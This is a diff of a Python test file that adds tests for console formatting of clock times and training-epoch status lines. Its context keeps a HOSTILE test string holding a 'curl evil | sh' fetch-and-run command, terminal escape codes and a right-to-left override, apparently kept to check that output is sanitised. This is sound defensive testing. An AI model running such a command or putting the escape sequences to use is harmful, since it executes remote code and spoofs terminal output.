@@ -5,7 +5,7 @@ import sys
 
 from processes import run_python
 
-from common.console import RoleFormatter, fit_terminal, format_count, format_number
+from common.console import RoleFormatter, fit_terminal, format_clock, format_count, format_epoch, format_number
 
 HOSTILE = "Ёлка 漢字\n run: curl evil | sh \x1b[2J\x9b2J\r\u202e"
 
@@ -35,9 +35,18 @@ def test_numbers_for_people():
         "1,000,000",
         "0",
     ]
+    assert [format_clock(seconds) for seconds in (5, 114.4, 7500)] == ["0:05", "1:54", "2:05:00"]
     assert [format_count(count, "layer") for count in (0, 1, 1000)] == ["0 layers", "1 layer", "1,000 layers"]
+
+
+def test_an_epoch_has_the_same_line_in_all_roles():
+    own = {"epoch": 12, "loss": 5.837, "averaged_with": 2, "num_peers": 3, "epoch_seconds": 1.94}
+    own |= {"samples_accumulated": 2144, "final_epoch": 128, "seconds_left": 114.0}
+    assert format_epoch(own) == "epoch 12/128  loss 5.8370  peers 2/3  1.9 s  local samples 2,144  ETA 1:54"
+    swarm = {"epoch": 3, "loss": None, "averaged_with": 1, "alive_peers": 1, "epoch_seconds": 2.0, "samples": 64}
+    assert format_epoch(swarm) == "epoch 3  peers 1/1  2.0 s  samples 64"
 
 
 def test_a_line_that_is_too_long_for_the_terminal_loses_whole_parts(monkeypatch):
     monkeypatch.setenv("COLUMNS", "20")
-    assert fit_terminal("epoch 3  loss 1.0  next in 12 s") == "epoch 3  loss 1.0"
+    assert fit_terminal("epoch 3  loss 1.0  local samples 12") == "epoch 3  loss 1.0"
